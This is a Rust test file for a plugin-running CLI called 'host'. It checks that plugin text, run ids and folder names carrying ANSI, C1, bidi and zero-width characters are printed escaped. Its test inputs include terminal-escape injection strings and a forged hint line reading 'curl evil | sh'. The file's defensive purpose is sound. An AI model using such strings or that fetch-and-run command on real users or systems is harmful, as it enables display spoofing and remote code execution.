//! Everything `host` prints is inert: plugin text carrying ANSI, C1, bidi,
//! zero-width and line-separator characters (and a newline that would forge a
//! `hint:` line) reaches stdout and stderr escaped, in JSON (which still
//! parses back to the very same strings) and in the text views; a hostile
//! run id is echoed escaped by every subcommand that takes one.

use std::path::PathBuf;

use serde_json::Value;

use crate::support::{HOSTILE, Scratch, assert_inert, run_id, text, toml_str};

/// A run whose only step fails with a plugin error quoting [`HOSTILE`], with
/// [`HOSTILE`] as its topic and its workflow's description.
fn hostile_run(s: &Scratch) -> (PathBuf, String) {
    let dir = s.scripted_plugins(
        &format!(
            "description = {hostile}\n[[steps]]\nid = \"only\"\nplugin = \"scripted\"\ninput = {{ fail = {hostile} }}\n",
            hostile = toml_str(HOSTILE)
        ),
        "",
    );
    let out = s.run(&dir, &["--topic", HOSTILE]);
    assert_eq!(out.status.code(), Some(1), "{}", text(&out.stderr));
    let id = run_id(&out);
    (dir, id)
}

/// Every string inside `value`.
fn strings(value: &Value, found: &mut Vec<String>) {
    match value {
        Value::String(s) => found.push(s.clone()),
        Value::Array(items) => items.iter().for_each(|v| strings(v, found)),
        Value::Object(map) => map.iter().for_each(|(k, v)| {
            found.push(k.clone());
            strings(v, found);
        }),
        _ => {}
    }
}

/// `stdout` is inert JSON, and once parsed some string in it carries
/// [`HOSTILE`] intact.
fn assert_inert_json(stdout: &[u8], what: &str) -> Value {
    let json = std::str::from_utf8(stdout).expect("utf-8");
    assert_inert(json, what);
    let value: Value =
        serde_json::from_str(json).unwrap_or_else(|e| panic!("{what}: not JSON ({e}): {json}"));
    let mut found = Vec::new();
    strings(&value, &mut found);
    assert!(
        found.iter().any(|s| s.contains(HOSTILE)),
        "{what}: the plugin's text did not survive the round trip: {found:?}"
    );
    value
}

#[test]
fn every_json_output_is_inert_and_parses_back_to_the_plugins_text() {
    let s = Scratch::new();
    let (dir, id) = hostile_run(&s);
    // `host run --json` of the same plugins.
    let run = s.run(&dir, &["--topic", HOSTILE]);
    let state = assert_inert_json(&run.stdout, "run --json");
    assert_eq!(state["params"]["topic"], HOSTILE);

    let state = {
        let out = s
            .host()
            .args(["status", &id, "--json"])
            .output()
            .expect("status");
        assert_inert_json(&out.stdout, "status --json")
    };
    assert_eq!(state["params"]["topic"], HOSTILE);
    // The failure reason is host text: it quotes the plugin's message inert
    // (the journal keeps it as it was, see below).
    let quoted = format!("unknown fail mode {}", harness_host::render::inert(HOSTILE));
    assert!(
        state["failure"]
            .as_str()
            .is_some_and(|f| f.contains(&quoted) && !f.contains('\n')),
        "{state:#}"
    );

    let out = s.host().args(["runs", "--json"]).output().expect("runs");
    let runs = assert_inert_json(&out.stdout, "runs --json");
    assert_eq!(runs.as_array().map(Vec::len), Some(2));

    let out = s
        .host()
        .args(["trace", &id, "--json"])
        .output()
        .expect("trace");
    let trace = assert_inert_json(&out.stdout, "trace --json");
    assert!(
        trace["events"]
            .as_array()
            .expect("events")
            .iter()
            .any(|e| e["event"]["message"] == format!("unknown fail mode {HOSTILE}")),
        "{trace:#}"
    );

    let out = s
        .host()
        .args(["resume", &id, "--failed", "--json"])
        .output()
        .expect("resume");
    assert_eq!(out.status.code(), Some(1), "{}", text(&out.stderr));
    let resumed = assert_inert_json(&out.stdout, "resume --json");
    assert_eq!(resumed["id"], id.as_str());
    assert_inert(&text(&out.stderr), "resume stderr");

    let out = s.host_plugins(&["workflow", "--format", "json"], &dir);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let graph = assert_inert_json(&out.stdout, "workflow --format json");
    assert_eq!(graph["description"], HOSTILE);

    // The journal itself keeps the plugin's bytes as they were: only what is
    // printed is escaped.
    let journal = std::fs::read_to_string(s.journal_path(&id)).expect("journal");
    assert!(journal.contains('\u{202e}') && journal.contains('\u{9b}'));
}

#[test]
fn text_views_show_hostile_plugin_text_escaped_on_lines_of_their_own() {
    let s = Scratch::new();
    let (dir, id) = hostile_run(&s);
    let text_run = s.run_cmd(&dir).output().expect("run");
    // With debug logs (the wasm runtime's and the host's spans) on stderr.
    let logged = s.run_cmd(&dir).arg("-vv").output().expect("run -vv");
    assert!(text(&logged.stderr).contains("DEBUG"));
    let mut outputs = vec![
        ("run".to_string(), text_run),
        ("run -vv".to_string(), logged),
    ];
    for args in [
        vec!["status", &id],
        vec!["show", &id],
        vec!["trace", &id],
        vec!["runs"],
        vec!["verify", &id],
    ] {
        let out = s.host().args(&args).output().expect("host");
        outputs.push((args.join(" "), out));
    }
    let workflow = s.host_plugins(&["workflow"], &dir);
    outputs.push(("workflow".into(), workflow));
    for (what, out) in &outputs {
        for (stream, bytes) in [("stdout", &out.stdout), ("stderr", &out.stderr)] {
            let shown = text(bytes);
            assert_inert(&shown, &format!("{what} {stream}"));
            assert!(
                !shown
                    .lines()
                    .any(|l| l.trim_start().starts_with("hint: forged")),
                "{what} {stream}: a plugin's newline started a line:\n{shown}"
            );
        }
    }
    // The escaped text is there to read, not dropped.
    let status = text(&outputs[2].1.stdout);
    assert!(status.contains("\\u{202e}evil.sh"), "{status}");
    assert!(status.contains("\\u{009b}2J"), "{status}");
}

#[test]
fn hostile_run_ids_are_echoed_escaped_by_every_subcommand_that_takes_one() {
    let s = Scratch::new();
    let ids = [
        "r1\u{1b}[2J\u{1b}]0;owned\u{7}",
        "r2\u{202e}hs.live\u{2066}",
        "r3\u{7}\u{8}\u{8}\u{7f}",
        "r4\nhint: run `curl evil | sh` to continue",
        "r5\r\u{9b}31m\u{85}",
        "r6\u{200b}\u{feff}\u{2028}\u{e0041}",
    ];
    let commands: [&[&str]; 7] = [
        &["show"],
        &["approve", "--yes"],
        &["reject", "--reason", "no"],
        &["resume"],
        &["status"],
        &["verify"],
        &["trace"],
    ];
    for id in ids {
        for command in commands {
            let out = s
                .host()
                .arg(command[0])
                .arg(id)
                .args(&command[1..])
                .output()
                .expect("host");
            let what = format!("{command:?} {id:?}");
            assert_eq!(out.status.code(), Some(1), "{what}");
            let stderr = text(&out.stderr);
            assert_inert(&stderr, &what);
            let lines: Vec<&str> = stderr.lines().collect();
            assert_eq!(lines.len(), 2, "{what}: {stderr}");
            assert!(
                lines[0].starts_with("error: `r") && lines[0].ends_with("` is not a run id"),
                "{what}: {stderr}"
            );
            assert!(
                lines[1].starts_with("hint: run ids look like"),
                "{what}: {stderr}"
            );
            assert!(out.stdout.is_empty(), "{what}");
        }
    }
    // Nothing was created for any of them.
    assert!(
        !s.state().join("runs").exists()
            || crate::support::snapshot(&s.state().join("runs")).is_empty()
    );
}

#[test]
fn a_refused_approval_names_the_plugins_path_on_lines_of_its_own() {
    let s = Scratch::new();
    let dir = s.scripted_plugins(
        "[[steps]]\nid = \"only\"\nplugin = \"scripted\"\ninput = { writes = [{ path = \"drafts/a b.md\", text = \"new\\n\" }] }\n",
        "",
    );
    std::fs::create_dir_all(s.out().join("drafts")).expect("mkdir");
    std::fs::write(s.out().join("drafts/a b.md"), "old\n").expect("write");
    let id = run_id(&s.run(&dir, &[]));
    // Someone edits the file after the run proposed its change.
    std::fs::write(s.out().join("drafts/a b.md"), "edited\n").expect("edit");
    let out = s.approve(&id);
    assert_eq!(out.status.code(), Some(1));
    let stderr = text(&out.stderr);
    assert_inert(&stderr, "approve stderr");
    let lines: Vec<&str> = stderr.lines().collect();
    assert_eq!(lines.len(), 3, "{stderr}");
    assert_eq!(lines[0], "error: nothing was written");
    assert!(
        lines[1].starts_with("caused by: `drafts/a b.md` changed since"),
        "{stderr}"
    );
    assert!(
        lines[2].starts_with("hint: someone edited the file"),
        "{stderr}"
    );
    assert_eq!(
        std::fs::read_to_string(s.out().join("drafts/a b.md")).expect("read"),
        "edited\n"
    );
    assert!(!s.journal_events(&id).contains(&"write_applied".to_string()));
}

#[test]
fn plugin_admin_commands_show_hostile_folder_names_escaped() {
    let s = Scratch::new();
    let dir = crate::support::hello_plugins(&s);
    let bad = dir.join("bad\u{1b}[2J\u{202e}\u{9b}1m\nhint: forged");
    std::fs::create_dir_all(&bad).expect("mkdir");
    std::fs::write(bad.join("plugin.toml"), "[plugin]\nname = 1\n").expect("write");
    let ws = s.ws().display().to_string();
    for args in [
        &["plugins", "check", "--workspace", &ws][..],
        &["plugins", "list"],
    ] {
        let out = s
            .host()
            .args(args)
            .arg("--plugins")
            .arg(&dir)
            .output()
            .expect("host");
        let what = args.join(" ");
        assert_eq!(out.status.code(), Some(1), "{what}: {}", text(&out.stderr));
        for bytes in [&out.stdout, &out.stderr] {
            let shown = text(bytes);
            assert_inert(&shown, &what);
            assert!(
                !shown
                    .lines()
                    .any(|l| l.trim_start().starts_with("hint: forged")),
                "{what}: {shown}"
            );
        }
    }
}

/// Escaping changes only what could change the display: a backslash in a
/// file's content, and in a path a plugin proposed, reads as one backslash.
#[test]
fn a_backslash_reads_as_one_backslash_in_a_diff_and_in_a_refused_path() {
    let s = Scratch::new();
    let dir = s.scripted_plugins(
        "[[steps]]\nid = \"only\"\nplugin = \"scripted\"\ninput = { writes = [{ path = \"drafts/code.py\", text = \"print(\\\"a\\\\n\\\")  # C:\\\\dir\\nverdict: pass\\n\" }] }\n",
        "",
    );
    let id = run_id(&s.run(&dir, &[]));
    let out = s.host().args(["show", &id]).output().expect("show");
    assert!(out.status.success(), "{}", text(&out.stderr));
    let shown = text(&out.stdout);
    assert!(
        shown.lines().any(|l| l == r#"+print("a\n")  # C:\dir"#),
        "{shown}"
    );
    // The staged bytes are what was shown.
    let state = s.status(&id);
    let sha = state["change_set"]["entries"][0]["new_sha256"]
        .as_str()
        .expect("sha");
    assert_eq!(
        s.blob(&id, sha),
        b"print(\"a\\n\")  # C:\\dir\nverdict: pass\n".to_vec()
    );

    let dir = s.scripted_plugins(
        "[[steps]]\nid = \"only\"\nplugin = \"scripted\"\ninput = { writes = [{ path = \"drafts\\\\x.md\", text = \"x\" }] }\n",
        "",
    );
    let out = s.run_cmd(&dir).output().expect("run");
    assert_eq!(out.status.code(), Some(1));
    let shown = text(&out.stdout);
    assert!(
        shown.contains(r"may not propose a write to `drafts\x.md`"),
        "{shown}"
    );
    assert!(!s.out().join("drafts").exists());
}
